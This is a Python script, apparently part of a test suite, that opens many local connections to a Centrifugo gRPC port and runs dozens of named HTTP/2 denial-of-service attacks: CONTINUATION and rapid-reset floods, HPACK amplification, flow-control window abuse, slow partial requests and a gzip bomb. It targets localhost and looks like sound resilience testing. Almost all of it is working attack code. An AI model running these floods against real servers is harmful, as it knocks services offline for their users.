"""Attackers of a gRPC port: raw frames, as fast as they go, from a process of its own.

    attackers.py NAME PORT --address 127.0.0.9 --connections 20 --enough 100000

Attacks until its standard input ends; says "enough" on standard output as soon as |enough| units
(frames, streams, connections: what the attack counts) were sent, or the server lets nothing more
through; then one line of JSON with what was done. A connection that the server closes is opened
again, as long as the attack goes on.

An attack is a generator over one connection: it yields (bytes, units), or REST to give the server a
moment, SHUT to close its half, CLOSE to close the connection and open the next; when it ends, the
connection stays open and silent.
"""
import argparse
import gzip
import itertools
import json
import os
import pathlib
import selectors
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "support"))

from h2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING,  # noqa: E402
                PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW, frame, literal, message,
                request_fields)
from pb import field  # noqa: E402

CONSUME = "/centrifugal.centrifugo.unistream.CentrifugoUniStream/Consume"
PUBLISH = "/centrifugal.centrifugo.api.CentrifugoApi/Publish"
HELLO = PREFACE + frame(SETTINGS, 0, 0)
REST, SHUT, CLOSE = (None, 0), (None, 1), (None, 2)
REST_S = 0.1
STUCK_S = 3
BATCH = 500  # frames in one piece of a flood
LAST_STREAM = 1 << 30

ATTACKS = {}
DEAF = set()  # attacks that never read


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def deaf(function):
    DEAF.add(function.__name__)
    return function


# ---- bytes

def indexed(name, value):
    """A header field that the peer is to remember, without Huffman code; short strings."""
    return b"\x40" + literal(name, value)[1:]


def number(value, bits, first=0):
    """HPACK's integer with a prefix of |bits|."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out = bytes([first | most])
    value -= most
    while value >= 128:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def request(method, extra=b"", names=indexed):
    """A header block; with |names| remembered it is |repeated(n)| from then on."""
    return b"".join(names(*one) for one in request_fields(method)) + extra


def repeated(fields_n):
    """The last |fields_n| fields of the dynamic table, in the order in which they were added."""
    return bytes(0x80 | 62 + at for at in reversed(range(fields_n)))


FIELDS_N = len(request_fields(CONSUME))


def setting(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def headers(stream, block, end=False):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def window(stream, grant):
    return frame(WINDOW, 0, stream, struct.pack(">I", grant))


def connect_request(channel="flood"):
    return message(field(3, field(1, channel) + field(2, b"")))


def streams():
    return range(1, LAST_STREAM, 2)


def batches(iterable, size=BATCH):
    iterator = iter(iterable)
    while batch := list(itertools.islice(iterator, size)):
        yield batch


def forever(piece, units):
    while True:
        yield piece, units


# ---- floods of frames

def flood_of_continuation(block):
    yield HELLO + frame(HEADERS, 0, 1, request(CONSUME)), 1
    yield from forever(frame(CONTINUATION, 0, 1, block) * 100, 100)


@attack
def continuation_flood(options):
    """A header list that never ends, of fields with new names."""
    yield from flood_of_continuation(b"".join(
        literal(f"x-{at:05}", "v" * 100) for at in range(140)))


@attack
def continuation_empty(options):
    yield from flood_of_continuation(b"")


@attack
def continuation_one_field(options):
    """One value that claims a gigabyte and keeps coming."""
    start = b"\x00" + number(4, 7) + b"long" + number(1 << 30, 7)
    yield HELLO + frame(HEADERS, 0, 1, request(CONSUME) + start), 1
    yield from forever(frame(CONTINUATION, 0, 1, b"v" * 16384) * 100, 100)


@attack
def rapid_reset(options):
    """Each stream is taken back as soon as it was asked for."""
    method = PUBLISH if options.listener == "grpc_api" else CONSUME
    reset = struct.pack(">I", 8)
    yield HELLO + headers(1, request(method)) + frame(RST_STREAM, 0, 1, reset), 1
    block = repeated(FIELDS_N)
    head, tail = headers(0, block)[:5], block + frame(RST_STREAM, 0, 0, reset)[:5]
    for batch in batches(streams()):
        yield b"".join(head + on + tail + on + reset
                       for on in (struct.pack(">I", stream) for stream in batch[1:])), len(batch)


@attack
def rapid_reset_asked(options):
    """The same with a whole request in between: the server has begun to work on it."""
    body = connect_request()
    for batch in batches(streams(), 100):
        out = HELLO if batch[0] == 1 else b""
        for stream in batch:
            block = request(CONSUME) if stream == 1 else repeated(FIELDS_N)
            out += headers(stream, block) + frame(DATA, END_STREAM, stream, body) + \
                frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        yield out, len(batch)


@attack
def settings_flood(options):
    flip = setting((4, 1), (1, 0)) + setting((4, 1 << 20), (1, 4096))
    yield HELLO, 0
    yield from forever(flip * BATCH, 2 * BATCH)


@deaf
@attack
def settings_flood_deaf(options):
    """Never reads the acknowledgements."""
    yield from settings_flood(options)


@attack
def settings_large(options):
    """Settings that nobody knows, as many as fit."""
    yield HELLO, 0
    yield from forever(setting(*((0x100 + at, at) for at in range(2700))) * 10, 10)


@attack
def ping_flood(options):
    yield HELLO, 0
    yield from forever(frame(PING, 0, 0, b"12345678") * BATCH, BATCH)


@deaf
@attack
def ping_flood_deaf(options):
    yield from ping_flood(options)


@attack
def priority_flood(options):
    yield HELLO, 0
    for batch in batches(streams()):
        yield b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 9))
                       for stream in batch), len(batch)


@attack
def unknown_frame_flood(options):
    yield HELLO, 0
    yield from forever(frame(0xee, 0xff, 0, b"?" * 64) * BATCH, BATCH)


@attack
def empty_data_flood(options):
    """Empty DATA frames cost no window."""
    yield HELLO + headers(1, request(CONSUME)), 0
    yield from forever(frame(DATA, 0, 1) * BATCH, BATCH)


# ---- metadata

@attack
def metadata_many(options):
    """Requests with thousands of fields."""
    fields = b"".join(literal(f"x-{at:05}", "v") for at in range(1400))
    assert len(fields) < 16384
    yield HELLO, 0
    for stream in streams():
        yield frame(HEADERS, END_STREAM, stream, request(CONSUME, names=literal)) + \
            frame(CONTINUATION, 0, stream, fields) * 7 + \
            frame(CONTINUATION, END_HEADERS, stream, fields), 8


@attack
def hpack_amplification(options):
    """One field of 3,900 bytes, remembered; then 16,000 times one byte that names it: 62 MB of
    metadata in each frame."""
    value = b"v" * 3900
    remember = b"\x40" + number(1, 7) + b"x" + number(len(value), 7) + value
    yield HELLO + headers(1, request(CONSUME, remember, names=literal), end=True), 1
    for stream in range(3, LAST_STREAM, 2):
        yield headers(stream, request(CONSUME, b"\xbe" * 16000, names=literal), end=True), 1


@attack
def hpack_table_churn(options):
    """Fields that push each other out of the table, and a table that is resized all the time."""
    fields = b"".join(b"\x40" + literal(f"x-{at:05}", "v" * 100)[1:] for at in range(100))
    block = request(CONSUME, fields, names=literal)
    yield HELLO, 0
    for stream in streams():
        yield headers(stream, number(0, 5, 0x20) + number(4096, 5, 0x20) + block, end=True), 1


# ---- windows

@attack
def window_zero(options):
    """An increment of nothing is an error: of the stream, of the connection."""
    yield HELLO + headers(1, request(CONSUME)) + frame(DATA, END_STREAM, 1, connect_request()), 0
    for stream in (1, 0):
        yield window(stream, 0), 1
    yield from forever(window(0, 0) * BATCH, BATCH)


@attack
def window_overflow(options):
    yield HELLO + headers(1, request(CONSUME)) + frame(DATA, END_STREAM, 1, connect_request()), 0
    yield from forever(window(1, 0x7fffffff) + window(0, 0x7fffffff), 2)


@attack
def window_trickle(options):
    """Streams that take their pushes one byte at a time."""
    out = PREFACE + setting((4, 0))
    for stream in range(1, 200, 2):
        block = request(CONSUME) if stream == 1 else repeated(FIELDS_N)
        out += headers(stream, block) + frame(DATA, END_STREAM, stream, connect_request())
    yield out, 100
    byte = b"".join(window(stream, 1) for stream in range(1, 200, 2))
    for _ in range(1 << 20):
        yield byte, 100


def closed_window(options, streams_n):
    """Subscribers of the channel "flood" that never take a byte of a message."""
    out = PREFACE + setting((4, 0))
    for stream in range(1, 2 * streams_n, 2):
        block = request(CONSUME) if stream == 1 else repeated(FIELDS_N)
        out += headers(stream, block) + frame(DATA, END_STREAM, stream, connect_request())
    yield out, streams_n


@attack
def window_closed(options):
    yield from closed_window(options, 100)


@deaf
@attack
def socket_closed(options):
    """The windows are open, but the socket is never read."""
    out = PREFACE + setting((4, 0x7fffffff)) + window(0, 0x7fff0000)
    for stream in range(1, 200, 2):
        block = request(CONSUME) if stream == 1 else repeated(FIELDS_N)
        out += headers(stream, block) + frame(DATA, END_STREAM, stream, connect_request())
    yield out, 100


@attack
def window_flip(options):
    """Many streams with something to send, and an initial window that goes up and down: each
    SETTINGS frame touches every stream."""
    yield from closed_window(options, 100)
    yield from forever((setting((4, 1)) + setting((4, 0))) * 50, 100)


@attack
def streams_beyond(options):
    """Streams without an end, far beyond what the server allows."""
    yield HELLO + headers(1, request(CONSUME)), 1
    block = repeated(FIELDS_N)
    for batch in batches(range(3, LAST_STREAM, 2)):
        yield b"".join(headers(stream, block) for stream in batch), len(batch)


# ---- half of something

@attack
def idle_sockets(options):
    """Says nothing at all."""
    yield b"", 1


@attack
def preface_only(options):
    yield HELLO, 1


@attack
def preface_slowly(options):
    """A byte of the preface, and a while later the next one."""
    for at in range(len(HELLO)):
        yield HELLO[at:at + 1], 1
        for _ in range(10):
            yield REST


@attack
def headers_without_end(options):
    yield HELLO + frame(HEADERS, 0, 1, request(CONSUME)), 1


@attack
def request_without_end(options):
    """Calls whose message never comes: no DATA, 3 bytes of the prefix, half of what it claims."""
    out = HELLO
    parts = (b"", b"\0\0\0", message(b"1234", claimed=100))
    for stream in range(1, 200, 2):
        block = request(CONSUME) if stream == 1 else repeated(FIELDS_N)
        out += headers(stream, block) + frame(DATA, 0, stream, parts[stream // 2 % 3])
    yield out, 100


@attack
def message_of_4_gib(options):
    yield HELLO, 0
    for stream in streams():
        yield headers(stream, request(PUBLISH, names=literal)) + \
            frame(DATA, 0, stream, message(b"x" * 1000, claimed=0xffffffff)), 1


@attack
def message_byte_by_byte(options):
    """1 MiB is claimed, allowed, and comes a byte a frame."""
    out = HELLO
    for stream in range(1, 200, 2):
        block = request(PUBLISH) if stream == 1 else repeated(FIELDS_N)
        out += headers(stream, block) + frame(DATA, 0, stream, message(b"", claimed=1 << 20))
    yield out, 0
    byte = b"".join(frame(DATA, 0, stream, b"x") for stream in range(1, 200, 2))
    for _ in range(1 << 19):
        yield byte, 100


@attack
def half_closed(options):
    """Speaks, shuts its half of the connection, and stays."""
    yield HELLO + headers(1, request(CONSUME)) + frame(DATA, END_STREAM, 1, connect_request()), 1
    yield SHUT


@attack
def gzip_bomb(options):
    """60 MiB of nothing in a message of 60 KB, which fits the first window; with the API's key."""
    extra = literal("grpc-encoding", "gzip") + literal("authorization", f"apikey {options.key}")
    whole = b"\1" + struct.pack(">I", len(options.bomb)) + options.bomb
    assert len(whole) < 65535
    out = HELLO + headers(1, request(PUBLISH, extra, names=literal))
    for at in range(0, len(whole), 16384):
        out += frame(DATA, 0, 1, whole[at:at + 16384])
    yield out + frame(DATA, END_STREAM, 1), 1
    for _ in range(10):
        yield REST
    yield CLOSE


# ---- what is not HTTP/2

@attack
def garbage(options):
    while True:
        yield os.urandom(4096), 1


@attack
def garbage_frames(options):
    """A proper preface, then noise."""
    yield HELLO + os.urandom(65536), 1
    yield REST
    yield CLOSE


@attack
def invalid_hpack(options):
    """An index that does not exist, a string that is longer than its frame, an endless integer,
    broken Huffman code."""
    for block in (b"\xff\xff\xff\x7f", b"\x00\x05ab", b"\xff" + b"\x80" * 1000,
                  b"\x00\x83\xff\xff\xff\x01v", b"\x3f\xff\xff\xff\xff\x0f"):
        yield HELLO + headers(1, block, end=True), 1
        yield REST
        yield CLOSE


@attack
def oversize_frames(options):
    """Frames of 16 MiB, of every kind."""
    for kind in (DATA, HEADERS, SETTINGS, PING, CONTINUATION, 0xee):
        yield HELLO + struct.pack(">I", 0xffffff)[1:] + bytes([kind, 0]) + struct.pack(">I", 1), 1
        for _ in range(64):
            yield b"x" * 16384, 1
        yield REST
        yield CLOSE


@attack
def http1(options):
    yield b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n" + b"X-Header: 1\r\n" * 1000 + b"\r\n", 1


@attack
def connect_storm(options):
    """Opens, says hello, closes."""
    yield HELLO, 1
    yield CLOSE


@attack
def connect_storm_mute(options):
    yield b"", 1
    yield CLOSE


# ---- the machine behind them

class Wire:
    """One connection of an attack: sends what its script says, rests, is silent."""

    def __init__(self, crowd):
        self.crowd = crowd
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        self.socket.bind((crowd.options.address, 0))
        self.socket.connect_ex(("127.0.0.1", crowd.options.port))
        self.script = ATTACKS[crowd.options.name](crowd.options)
        self.piece, self.units = memoryview(b""), 0
        self.reads = 0 if crowd.options.name in DEAF else selectors.EVENT_READ
        self.events = 0
        self.watch(selectors.EVENT_WRITE)

    def watch(self, events):
        """|events|, and reading if this attack reads."""
        wanted, had = events | self.reads, self.events
        self.events = wanted
        if not had and wanted:
            self.crowd.selector.register(self.socket, wanted, self)
        elif had and not wanted:
            self.crowd.selector.unregister(self.socket)
        elif wanted != had:
            self.crowd.selector.modify(self.socket, wanted, self)

    def next_piece(self):
        """False: nothing to send, now or ever."""
        self.crowd.count(self.units)
        self.units = 0
        step = next(self.script, None)
        if step is None:
            self.watch(0)
            return False
        if step is CLOSE:
            self.crowd.replace(self)
            return False
        if step is REST:
            self.crowd.rest(self)
            return False
        if step is SHUT:
            self.socket.shutdown(socket.SHUT_WR)
            return True
        self.piece, self.units = memoryview(step[0]), step[1]
        return True

    def write(self):
        for _ in range(4):
            if not self.piece and not self.next_piece():
                return
            if self.piece:
                sent = self.socket.send(self.piece)
                self.piece = self.piece[sent:]
                self.crowd.note_sent(sent)

    def ready(self, events):
        try:
            if events & selectors.EVENT_READ and not self.socket.recv(1 << 18):
                raise ConnectionResetError
            if events & selectors.EVENT_WRITE:
                self.write()
        except BlockingIOError:
            pass
        except OSError:
            self.crowd.closed += 1
            self.crowd.replace(self)

    def close(self):
        self.reads = 0
        self.watch(0)
        self.socket.close()


class Crowd:
    def __init__(self, options):
        self.options = options
        self.selector = selectors.DefaultSelector()
        self.wires = set()
        self.resting = []  # (until, wire), in order
        self.sent = self.units = self.opened = self.closed = 0
        self.moved = time.monotonic()

    def count(self, units):
        self.units += units
        if units:
            self.moved = time.monotonic()

    def note_sent(self, size):
        self.sent += size
        self.moved = time.monotonic()

    def open(self):
        try:
            self.wires.add(Wire(self))
            self.opened += 1
        except OSError:  # no descriptors or ports left: that is all there is
            self.options.connections = len(self.wires)

    def replace(self, wire):
        wire.close()
        self.wires.discard(wire)

    def rest(self, wire):
        wire.watch(0)
        self.resting.append((time.monotonic() + REST_S, wire))

    def wake(self):
        now, awake = time.monotonic(), 0
        while awake < len(self.resting) and self.resting[awake][0] <= now:
            if self.resting[awake][1] in self.wires:
                self.resting[awake][1].watch(selectors.EVENT_WRITE)
            awake += 1
        del self.resting[:awake]

    def run(self):
        told = False
        os.set_blocking(0, False)
        self.selector.register(0, selectors.EVENT_READ, None)
        while True:
            for _ in range(min(100, self.options.connections - len(self.wires))):
                self.open()
            for key, events in self.selector.select(0.05):
                if key.data is None:
                    if not os.read(0, 16):
                        return
                elif key.data in self.wires:
                    key.data.ready(events)
            self.wake()
            stuck = time.monotonic() - self.moved > STUCK_S
            if not told and (self.units >= self.options.enough or stuck):
                told = True
                print("enough", flush=True)

    def report(self):
        return {"opened": self.opened, "closed_by_server": self.closed, "units": self.units,
                "bytes": self.sent, "left": len(self.wires)}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("port", type=int)
    parser.add_argument("--listener", default="uni_grpc")
    parser.add_argument("--address", default="127.0.0.9")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--enough", type=int, default=1)
    parser.add_argument("--key", default="")
    options = parser.parse_args()
    if options.name == "gzip_bomb":
        options.bomb = gzip.compress(bytes(60 << 20), 9)
    crowd = Crowd(options)
    crowd.run()
    print(json.dumps(crowd.report()), flush=True)


if __name__ == "__main__":
    main()
